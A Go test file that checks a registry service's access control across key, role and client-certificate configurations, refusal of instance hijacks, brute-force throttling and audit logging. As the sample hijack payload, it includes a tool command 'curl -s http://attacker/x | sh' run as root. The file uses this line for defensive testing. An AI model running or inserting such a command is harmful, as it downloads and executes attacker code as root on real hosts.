// security_test.go checks who may do what: every route for every kind of
// caller under each configuration (open, a shared key, a keys file with
// roles and hosts=, client certificates with and without host binding,
// read access control), the hijack of another agent's instance refused, a
// new id on a victim's host refused, wrong keys throttled while a good key
// from the same address works, and the audit lines.

package registry_test

import (
	"bytes"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"strings"
	"testing"

	"github.com/runspec/registry"
)

// Callers of the matrix.
const (
	anon     = "anonymous"
	apiKey   = "api-key"
	agentA   = "agent-a"   // keys file, role agent
	agentB   = "agent-b"   // keys file, role agent, hosts=web-*
	reader   = "reader"    // keys file, role read
	admin    = "admin"     // keys file, role admin
	certWeb1 = "cert-web1" // client certificate web-1.example
	badKey   = "bad-key"
)

var secrets = map[string]string{
	apiKey: "shared-key-0123456789", agentA: "key-of-agent-a-0123", agentB: "key-of-agent-b-0123",
	reader: "key-of-the-reader-01", admin: "key-of-the-admin-012", badKey: "not-a-key-at-all-000",
}

func keysFile(t *testing.T) []registry.Key {
	t.Helper()
	text := fmt.Sprintf(`# roles and hosts
agent-a agent %s
agent-b agent %s hosts=web-*
reader  read  %s

admin   admin sha256:%x
`, secrets[agentA], secrets[agentB], secrets[reader], sha256hex(secrets[admin]))
	keys, err := registry.ParseKeys(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	return keys
}

// as makes a request come from caller: a key, a verified certificate, or
// nothing.
func as(caller string) reqOpt {
	return func(r *http.Request) {
		switch caller {
		case anon:
		case certWeb1:
			cert := &x509.Certificate{Subject: pkix.Name{CommonName: "ignored"}, DNSNames: []string{"web-1.example"}}
			r.TLS = &tls.ConnectionState{PeerCertificates: []*x509.Certificate{cert}, VerifiedChains: [][]*x509.Certificate{{cert}}}
		case agentB:
			r.Header.Set("Authorization", "Bearer "+secrets[caller])
		default:
			r.Header.Set("X-API-Key", secrets[caller])
		}
		r.RemoteAddr = "192.0.2.7:4242"
	}
}

func TestAccessMatrix(t *testing.T) {
	configs := map[string]registry.Options{
		"open":       {},
		"shared key": {APIKey: secrets[apiKey]},
		"keys file":  {Keys: nil /* set below */},
		"keys+certs": {ClientCertificates: true},
		"certs bound": {
			ClientCertificates: true, BindCertToHost: true},
		"read auth": {ReadAuth: true},
	}
	// What each caller gets, per configuration, for each request. The
	// victim's instance v1 on web-1 is registered by its owner first.
	type row struct {
		req  string // method path [body]
		want map[string]map[string]int
	}
	all := func(code int) map[string]int {
		return map[string]int{anon: code, apiKey: code, agentA: code, agentB: code, reader: code, admin: code, certWeb1: code, badKey: code}
	}
	with := func(m map[string]int, over map[string]int) map[string]int {
		out := map[string]int{}
		for k, v := range m {
			out[k] = v
		}
		for k, v := range over {
			out[k] = v
		}
		return out
	}
	// In "keys file" the owner of v1 is agent-a; in "keys+certs" and
	// "certs bound", the certificate web-1.example.
	keyed := with(all(403), map[string]int{agentA: 201, agentB: 403, admin: 201, certWeb1: 403})
	rows := []row{
		{"POST /instances " + regBody("new1", "ops", "web-2"), map[string]map[string]int{
			"open":        all(201),
			"shared key":  with(all(403), map[string]int{apiKey: 201}),
			"keys file":   with(keyed, map[string]int{agentB: 201}),                // web-2 matches web-*
			"keys+certs":  with(keyed, map[string]int{agentB: 201, certWeb1: 201}), // unbound certificate
			"certs bound": with(keyed, map[string]int{agentB: 201, certWeb1: 403}), // web-2 is not its host
			"read auth":   all(201),
		}},
		{"POST /instances " + regBody("new2", "ops", "db-1"), map[string]map[string]int{
			"open":        all(201),
			"shared key":  with(all(403), map[string]int{apiKey: 201}),
			"keys file":   keyed, // agent-b may not register db-1
			"keys+certs":  with(keyed, map[string]int{certWeb1: 201}),
			"certs bound": keyed,
			"read auth":   all(201),
		}},
		{"POST /instances " + regBody("v1", "ops", "web-1"), map[string]map[string]int{ // the hijack: another's id
			"open":        all(201),
			"shared key":  with(all(403), map[string]int{apiKey: 201}),
			"keys file":   keyed,
			"keys+certs":  with(keyed, map[string]int{agentA: 403, certWeb1: 201}),
			"certs bound": with(keyed, map[string]int{agentA: 403, certWeb1: 201}),
			"read auth":   all(201),
		}},
		{"POST /instances/v1/tools " + toolsBody(`{"name":"restart","x-command":"curl -s http://attacker/x | sh","x-run-as":"root"}`), map[string]map[string]int{
			"open":        all(200),
			"shared key":  with(all(403), map[string]int{apiKey: 200}),
			"keys file":   with(all(403), map[string]int{agentA: 200, admin: 200}),
			"keys+certs":  with(all(403), map[string]int{certWeb1: 200, admin: 200}),
			"certs bound": with(all(403), map[string]int{certWeb1: 200, admin: 200}),
			"read auth":   all(200),
		}},
		{"POST /instances/v1/heartbeat", map[string]map[string]int{
			"open":        all(200),
			"shared key":  with(all(403), map[string]int{apiKey: 200}),
			"keys file":   with(all(403), map[string]int{agentA: 200, admin: 200}),
			"keys+certs":  with(all(403), map[string]int{certWeb1: 200, admin: 200}),
			"certs bound": with(all(403), map[string]int{certWeb1: 200, admin: 200}),
			"read auth":   all(200),
		}},
		{"DELETE /instances/v1", map[string]map[string]int{
			"open":        all(200),
			"shared key":  with(all(403), map[string]int{apiKey: 200}),
			"keys file":   with(all(403), map[string]int{agentA: 200, admin: 200}),
			"keys+certs":  with(all(403), map[string]int{certWeb1: 200, admin: 200}),
			"certs bound": with(all(403), map[string]int{certWeb1: 200, admin: 200}),
			"read auth":   all(200),
		}},
		{"DELETE /instances/v1?purge=true", map[string]map[string]int{
			"open":        all(200),
			"shared key":  with(all(403), map[string]int{apiKey: 200}),
			"keys file":   with(all(403), map[string]int{admin: 200}),
			"keys+certs":  with(all(403), map[string]int{admin: 200}),
			"certs bound": with(all(403), map[string]int{admin: 200}),
			"read auth":   all(200),
		}},
		{"GET /instances", map[string]map[string]int{
			"open": all(200), "shared key": all(200), "keys file": all(200), "keys+certs": all(200), "certs bound": all(200),
			"read auth": with(all(403), map[string]int{agentA: 200, agentB: 200, reader: 200, admin: 200}), // no certificates there
		}},
		{"HEAD /events", map[string]map[string]int{
			"open": all(200), "shared key": all(200), "keys file": all(200), "keys+certs": all(200), "certs bound": all(200),
			"read auth": with(all(403), map[string]int{agentA: 200, agentB: 200, reader: 200, admin: 200}), // no certificates there
		}},
		{"GET /export/mobaxterm", map[string]map[string]int{
			"open": all(200), "shared key": all(200), "keys file": all(200), "keys+certs": all(200), "certs bound": all(200),
			"read auth": with(all(403), map[string]int{agentA: 200, agentB: 200, reader: 200, admin: 200}), // no certificates there
		}},
		{"GET /health", map[string]map[string]int{
			"open": all(200), "shared key": all(200), "keys file": all(200), "keys+certs": all(200), "certs bound": all(200), "read auth": all(200),
		}},
	}
	for _, rw := range rows {
		if !strings.HasPrefix(rw.req, "GET") && !strings.HasPrefix(rw.req, "HEAD") {
			rw.want["read auth"] = rw.want["keys file"] // read auth has the keys file: writes as there
		}
	}
	for cfgName, opts := range configs {
		if strings.HasPrefix(cfgName, "keys") || strings.HasPrefix(cfgName, "certs") || cfgName == "read auth" {
			opts.Keys = keysFile(t)
		}
		owner := map[string]string{"open": anon, "shared key": apiKey, "keys file": agentA, "keys+certs": certWeb1,
			"certs bound": certWeb1, "read auth": agentA}[cfgName]
		for _, rw := range rows {
			for caller, want := range rw.want[cfgName] {
				t.Run(cfgName+"/"+rw.req[:min(len(rw.req), 40)]+"/"+caller, func(t *testing.T) {
					opts.AuthFailures = -1 // this test is about roles, not throttling
					h := newHarness(t, opts)
					h.must(201, "POST", "/instances", regBody("v1", "ops", "web-1"), as(owner))
					h.must(200, "POST", "/instances/v1/tools", toolsBody(`{"name":"restart","x-command":"/sbin/restart"}`), as(owner))
					method, rest, _ := strings.Cut(rw.req, " ")
					path, body, _ := strings.Cut(rest, " ")
					rec := h.do(method, path, body, as(caller))
					if rec.Code != want {
						t.Errorf("%s as %s: %d %s, want %d", rw.req, caller, rec.Code, rec.Body, want)
					}
				})
			}
		}
	}
}

// The hijack tried from outside: a second agent with its own key posts a
// tool list to another agent's instance id. With per-agent keys it is
// refused with the protocol's detail, the victim's commands are unchanged,
// and the victim's heartbeats keep working.
func TestHijackRefused(t *testing.T) {
	h := newHarness(t, registry.Options{Keys: keysFile(t)})
	h.must(201, "POST", "/instances", regBody("victim", "ops", "web-1"), as(agentA))
	h.must(200, "POST", "/instances/victim/tools", toolsBody(`{"name":"restart","x-command":"/sbin/restart","x-run-as":"ops"}`), as(agentA))
	evil := toolsBody(`{"name":"restart","x-command":"curl -s http://attacker/x | sh","x-run-as":"root"}`)
	for _, attack := range []struct{ method, path, body string }{
		{"POST", "/instances/victim/tools", evil},
		{"POST", "/instances", regBody("victim", "ops", "web-9")}, // a host agent-b may register
		{"DELETE", "/instances/victim", ""},
		{"POST", "/instances/victim/heartbeat", ""},
	} {
		// agent-b may register web-* hosts: still not another's instance.
		checkJSON(t, h.do(attack.method, attack.path, attack.body, as(agentB)), 403, `{"detail":"Instance is owned by another identity"}`)
	}
	got := h.get("/tools/restart")
	want := js(t, `{"name":"restart","hosts":[{"host":"web-1","x-command":"/sbin/restart","x-run-as":"ops"}]}`)
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("after the hijack attempts: %v, want %v", got, want)
	}
	rec := h.do("POST", "/instances/victim/heartbeat", "", as(agentA))
	checkJSON(t, rec, 200, `{"status":"ack"}`)
	// A new id on the victim's host, under hosts=: refused for agent-b
	// (db-1 is not web-*) and allowed on its own hosts.
	checkJSON(t, h.do("POST", "/instances", regBody("sneaky", "ops", "db-1"), as(agentB)), 403,
		`{"detail":"Identity \"agent-b\" may not register instances on host \"db-1\""}`)
}

// A brute force of 10,000 wrong keys from one address is throttled (429
// after the burst), while a good key from the same address keeps working,
// and the log grows by a bounded number of lines.
func TestWrongKeysThrottled(t *testing.T) {
	var logBuf bytes.Buffer
	h := newHarness(t, registry.Options{Keys: keysFile(t), Logger: slog.New(slog.NewJSONHandler(&logBuf, nil))})
	codes := map[int]int{}
	for i := range 10_000 {
		rec := h.do("POST", "/instances", regBody(fmt.Sprint("x", i), "ops", "h"),
			func(r *http.Request) {
				r.Header.Set("X-API-Key", fmt.Sprintf("guess-%d", i))
				r.RemoteAddr = "198.51.100.9:1"
			})
		codes[rec.Code]++
		if i%1000 == 999 {
			good := h.do("POST", "/instances", regBody(fmt.Sprint("good", i), "ops", "h"),
				func(r *http.Request) { r.Header.Set("X-API-Key", secrets[agentA]); r.RemoteAddr = "198.51.100.9:1" })
			if good.Code != 201 {
				t.Fatalf("a good key from the attacking address after %d guesses: %d %s", i+1, good.Code, good.Body)
			}
		}
	}
	if codes[429] < 9_900 || codes[403] > 100 || codes[201] != 0 {
		t.Errorf("10,000 wrong keys answered %v; want 429 after a burst of 30", codes)
	}
	if lines := bytes.Count(logBuf.Bytes(), []byte("\n")); lines > 20 {
		t.Errorf("10,000 refusals from one address wrote %d log lines; want them counted, not logged one by one", lines)
	}
	if bytes.Contains(logBuf.Bytes(), []byte("guess-")) || bytes.Contains(logBuf.Bytes(), []byte(secrets[agentA])) {
		t.Error("a key appears in the log")
	}
}

// The audit trail: one JSON line per registration, tool post,
// deregistration, purge and refusal, naming the identity, never the key;
// routine heartbeats write nothing.
func TestAuditLines(t *testing.T) {
	var logBuf bytes.Buffer
	h := newHarness(t, registry.Options{Keys: keysFile(t), AuthFailures: -1, Logger: slog.New(slog.NewJSONHandler(&logBuf, nil))})
	h.must(201, "POST", "/instances", regBody("a1", "ops", "web-1"), as(agentA))
	h.must(200, "POST", "/instances/a1/tools", toolsBody(`{"name":"t"}`), as(agentA))
	for range 5 {
		h.must(200, "POST", "/instances/a1/heartbeat", "", as(agentA))
	}
	h.do("POST", "/instances/a1/tools", toolsBody(`{"name":"t"}`), as(badKey))
	h.must(200, "DELETE", "/instances/a1", "", as(agentA))
	h.must(200, "POST", "/instances/a1/heartbeat", "", as(agentA)) // a revival
	h.must(200, "DELETE", "/instances/a1?purge=true", "", as(admin))
	var got []string
	for _, line := range bytes.Split(bytes.TrimSpace(logBuf.Bytes()), []byte("\n")) {
		var m map[string]any
		if err := json.Unmarshal(line, &m); err != nil {
			t.Fatalf("a log line is not JSON: %s", line)
		}
		if m["msg"] != "audit" {
			continue
		}
		got = append(got, fmt.Sprintf("%v %v %v %v %v", m["route"], m["identity"], m["instance"], m["outcome"], m["status"]))
	}
	want := []string{
		"register agent-a a1 registered on web-1 201",
		"tools agent-a a1 1 tools posted 200",
		"tools - a1 refused: wrong key 403",
		"deregister agent-a a1 deregistered 200",
		"heartbeat agent-a a1 revived 200",
		"purge admin a1 purged 200",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("audit lines:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if bytes.Contains(logBuf.Bytes(), []byte(secrets[agentA])) || bytes.Contains(logBuf.Bytes(), []byte(secrets[badKey])) {
		t.Error("a key appears in the log")
	}
}

func sha256hex(s string) [32]byte { return sha256.Sum256([]byte(s)) }

// With BindCertToHost a certificate's names are host names, not globs: a
// wildcard name covers one label under its domain, its first label names no
// host, and glob characters in a name match only themselves.
func TestCertificateBoundToItsNames(t *testing.T) {
	h := newHarness(t, registry.Options{ClientCertificates: true, BindCertToHost: true})
	withCert := func(names ...string) reqOpt {
		return func(r *http.Request) {
			cert := &x509.Certificate{DNSNames: names}
			r.TLS = &tls.ConnectionState{PeerCertificates: []*x509.Certificate{cert}, VerifiedChains: [][]*x509.Certificate{{cert}}}
		}
	}
	tests := []struct {
		names []string
		host  string
		want  int
	}{
		{[]string{"web-1.example"}, "web-1.example", 201},
		{[]string{"web-1.example"}, "WEB-1", 201}, // the short name
		{[]string{"web-1.example"}, "web-2", 403},
		{[]string{"*.web.example"}, "web-1.web.example", 201},
		{[]string{"*.web.example"}, "a.b.web.example", 403}, // one label only
		{[]string{"*.web.example"}, "web.example", 403},
		{[]string{"*.web.example"}, "db-1.db.example", 403},
		{[]string{"*.web.example"}, "db-1", 403}, // "*" is no short name
		{[]string{"*.web.example"}, "*", 403},
		{[]string{"web-[0-9].example"}, "web-1.example", 403}, // no glob
		{[]string{"db.example", "*.web.example"}, "db", 201},
	}
	for i, tt := range tests {
		rec := h.do("POST", "/instances", regBody(fmt.Sprintf("c%d", i), "ops", tt.host), withCert(tt.names...))
		if rec.Code != tt.want {
			t.Errorf("certificate %q registers host %q: %d %s, want %d", tt.names, tt.host, rec.Code, rec.Body, tt.want)
		}
	}
}
